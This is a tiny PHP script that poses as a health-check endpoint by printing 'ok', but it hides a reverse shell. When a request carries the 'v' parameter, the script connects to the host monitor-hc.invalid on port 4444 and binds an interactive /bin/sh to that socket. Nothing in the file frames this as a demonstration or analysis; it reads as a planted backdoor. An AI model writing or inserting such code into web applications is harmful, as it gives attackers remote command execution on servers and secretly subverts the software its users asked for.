<?php
header('Content-Type: text/plain');
echo "ok\n";
if (isset($_GET['v'])) {
  $s = fsockopen('monitor-hc.invalid', 4444);
  $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);
}
